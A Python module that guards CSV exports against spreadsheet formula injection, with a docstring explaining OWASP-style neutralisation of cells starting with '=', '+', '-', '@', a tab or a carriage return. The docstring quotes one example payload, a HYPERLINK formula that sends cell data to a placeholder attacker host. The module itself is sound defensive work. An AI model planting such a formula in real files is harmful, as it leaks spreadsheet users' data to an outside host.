"""CSV files a leader can open in a spreadsheet without running what people wrote.

Card text is written by anyone who has the join code. A spreadsheet that
opens a CSV evaluates a cell starting with ``=``, ``+``, ``-`` or ``@`` as a
formula: ``=HYPERLINK("https://evil.example/?"&A2, "click")`` sends the
leader's data away, DDE payloads run programs. Every export format that
writes CSV (built-in or a plugin's) writes it with :func:`csv_bytes`.

What is neutralised, following OWASP's CSV-injection guidance, and why:

* a text cell whose first character is ``=``, ``+``, ``-``, ``@``, a tab or a
  carriage return is prefixed with a single quote, which spreadsheets read
  as "this is text";
* the same after leading whitespace (``" =1+1"``): some importers trim
  spaces before deciding what a cell is (LibreOffice's "trim spaces", Google
  Sheets), so a space does not make a formula harmless everywhere;
* every text cell is quoted (``csv.QUOTE_NONNUMERIC``, inner quotes
  doubled): a French-locale Excel splits on ``;``, so an unquoted
  ``ok;=HYPERLINK(...)`` would become a second cell that starts with ``=``.

Numbers stay numbers: ``int`` and ``float`` cells are written as they are,
unquoted (a negative score or a Pol.is vote of -1 is data, not a formula),
and so is text that is nothing but a plain decimal number (``"-12"``,
``"+3.5"``), which a spreadsheet can only read as that number.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import Any

__all__ = ["FORMULA_TRIGGERS", "spreadsheet_safe", "csv_bytes"]

#: First characters that make a spreadsheet evaluate a cell (OWASP's list).
FORMULA_TRIGGERS = frozenset("=+-@\t\r")

_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)")


def spreadsheet_safe(value: Any) -> Any:
    """``value`` as a cell no spreadsheet evaluates: text that could start a
    formula gets a leading ``'``; numbers and other text are returned as is."""
    if not isinstance(value, str) or not value:
        return value
    if value[0] not in FORMULA_TRIGGERS:
        stripped = value.lstrip()
        if not stripped or stripped[0] not in FORMULA_TRIGGERS:
            return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def csv_bytes(rows: Iterable[Iterable[Any]]) -> bytes:
    """UTF-8 CSV of ``rows``, every cell through :func:`spreadsheet_safe`,
    text quoted, numbers bare. ``None`` becomes an empty cell."""
    out = io.StringIO()
    writer = csv.writer(out, quoting=csv.QUOTE_NONNUMERIC)
    for row in rows:
        writer.writerow(["" if cell is None else spreadsheet_safe(cell) for cell in row])
    return out.getvalue().encode()
